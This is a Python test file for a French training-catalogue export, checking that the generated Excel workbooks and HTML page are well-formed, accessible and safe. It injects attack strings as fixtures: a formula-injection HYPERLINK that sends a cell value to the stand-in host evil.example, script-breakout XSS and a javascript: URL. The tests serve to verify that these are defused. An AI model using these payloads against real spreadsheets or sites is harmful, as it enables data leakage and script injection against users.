"""The catalogue: workbooks per programme (filters, frozen header, dates, no formula), the page."""

from __future__ import annotations

import datetime as dt
import json
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from lxml import html
from sqlalchemy import Engine, orm

from pipelines.load.catalogue_feed import PAGE_COLUMNS, XLSX_COLUMNS, write_catalogue
from pipelines.load.db import open_session
from pipelines.load.feeds import ReleaseContext
from pipelines.load.published import iter_published
from pipelines.transform.bundle import ActionBundle
from tests.load import contexts

TODAY = dt.date(2025, 6, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
SCRIPT = "</script><script>alert(1)</script>"


@pytest.fixture
def reader(published: Engine) -> Iterator[orm.Session]:
    """A read session on the published store, open for the whole test."""
    with open_session(published) as db:
        yield db


def hostile(db: orm.Session) -> Iterator[ActionBundle]:
    """The offer with texts that attack a spreadsheet and a page."""
    for index, bundle in enumerate(iter_published(db)):
        if index == 0:
            bundle.formation["intitule_formation"] = HYPERLINK
            bundle.sessions[0].fields["lieu_commune"] = "+33 (0)2 40 00 00 00"
            bundle.programme_row["libelle_programme"] = f"<b>gras</b>{SCRIPT}"
        if index == 1:
            bundle.formation["intitule_formation"] = SCRIPT
            bundle.action["url_action"] = "javascript:alert(1)"
        yield bundle


def release(folder: Path, engine: Engine, db: orm.Session) -> ReleaseContext:
    return contexts.release(folder, engine, db, offer=lambda: hostile(db))


def read_offre(folder: Path) -> dict[str, list[object]]:
    text = (folder / "offre.js").read_text(encoding="utf-8")
    prefix, suffix = "window.CATALOGUE_OFFRE = ", ";\n"
    assert text.startswith(prefix) and text.endswith(suffix)
    return json.loads(text[len(prefix) : -len(suffix)])


def test_one_workbook_per_programme_with_filters_frozen_header_and_dates(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    files = write_catalogue(release(tmp_path, published, reader))

    folder = tmp_path / "catalogue"
    per_programme = Counter(b.programme for b in iter_published(reader) for _ in b.sessions)
    workbooks = {f.path: f.records for f in files if f.path.endswith(".xlsx")}
    assert workbooks == {f"catalogue/catalogue-{p}.xlsx": n for p, n in per_programme.items()}
    headers = [h for h, _key, _kind, _width in XLSX_COLUMNS]
    for programme, count in per_programme.items():
        book = openpyxl.load_workbook(folder / f"catalogue-{programme}.xlsx")
        assert book.sheetnames == [programme]
        sheet = book.active
        assert sheet.freeze_panes == "A2"
        last = openpyxl.utils.get_column_letter(len(headers))
        assert sheet.auto_filter.ref == f"A1:{last}{count + 1}"
        assert [c.value for c in sheet[1]] == headers
        assert sheet.column_dimensions["B"].width > 40  # the intitulé is wide
        assert sheet.max_row == count + 1
        start = headers.index("Date de début") + 1
        for row in sheet.iter_rows(min_row=2, min_col=start, max_col=start):
            assert row[0].is_date and isinstance(row[0].value, dt.datetime)
        assert book.properties.created == dt.datetime(2025, 6, 1)


def test_no_cell_is_ever_a_formula(published: Engine, reader: orm.Session, tmp_path: Path) -> None:
    write_catalogue(release(tmp_path, published, reader))

    folder = tmp_path / "catalogue"
    first = next(iter_published(reader)).programme
    path = folder / f"catalogue-{first}.xlsx"
    sheet = openpyxl.load_workbook(path).active
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("Intitulé de la formation") + 1)
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix
    commune = sheet.cell(row=2, column=headers.index("Commune") + 1)
    assert commune.value == "+33 (0)2 40 00 00 00" and commune.quotePrefix
    for name in sorted(folder.glob("*.xlsx")):
        with zipfile.ZipFile(name) as archive:
            for member in archive.namelist():
                if member.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member)


def test_the_page_lists_the_whole_offer_safely_and_accessibly(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    files = write_catalogue(release(tmp_path, published, reader))

    folder = tmp_path / "catalogue"
    assert {f.path for f in files} >= {
        "catalogue/index.html", "catalogue/offre.js", "catalogue/catalogue.js",
        "catalogue/catalogue.css",
    }  # fmt: skip
    offre = read_offre(folder)
    assert offre["colonnes"] == list(PAGE_COLUMNS)
    sessions = [dict(zip(PAGE_COLUMNS, s, strict=True)) for s in offre["sessions"]]
    assert len(sessions) == 49
    assert [s["intitule"] for s in sessions[:1]] == [HYPERLINK]
    assert any(s["intitule"] == SCRIPT for s in sessions)
    assert not any(s["url"] and not s["url"].startswith("https://") for s in sessions)
    raw = (folder / "offre.js").read_bytes()
    assert b"</" not in raw and b"<script" not in raw  # escaped as \u003c

    page = (folder / "index.html").read_text(encoding="utf-8")
    tree = html.fromstring(page)
    assert tree.get("lang") == "fr"
    assert "01/06/2025" in tree.findtext(".//header/p")
    assert "<b>gras</b>" not in page and "&lt;b&gt;gras&lt;/b&gt;" in page  # autoescaped
    controls = tree.xpath("//form//input | //form//select")
    assert len(controls) == 7
    labelled = {label.get("for") for label in tree.xpath("//label")}
    assert all(c.get("id") in labelled for c in controls)
    status = tree.get_element_by_id("compte")
    assert status.get("role") == "status" and status.get("aria-live") == "polite"
    assert tree.xpath("//table/thead//th[@scope='col']")
    sources = tree.xpath("//script/@src | //link/@href")
    assert sources == ["catalogue.css", "offre.js", "catalogue.js"]  # no CDN: files next to it
    assert all((folder / s).is_file() for s in sources)
    programmes = tree.xpath("//select[@id='f-programme']/option/@value")
    assert programmes == ["", *sorted({str(s["programme"]) for s in sessions})]
    downloads = tree.xpath("//a[@download]/@href")
    assert downloads == sorted(f.path.split("/")[1] for f in files if f.path.endswith(".xlsx"))


def test_same_store_same_bytes(published: Engine, reader: orm.Session, tmp_path: Path) -> None:
    write_catalogue(release(tmp_path / "a", published, reader))
    write_catalogue(release(tmp_path / "b", published, reader))
    names = sorted(p.name for p in (tmp_path / "a" / "catalogue").iterdir())
    assert names == sorted(p.name for p in (tmp_path / "b" / "catalogue").iterdir())
    for name in names:
        first = (tmp_path / "a" / "catalogue" / name).read_bytes()
        assert first == (tmp_path / "b" / "catalogue" / name).read_bytes(), name
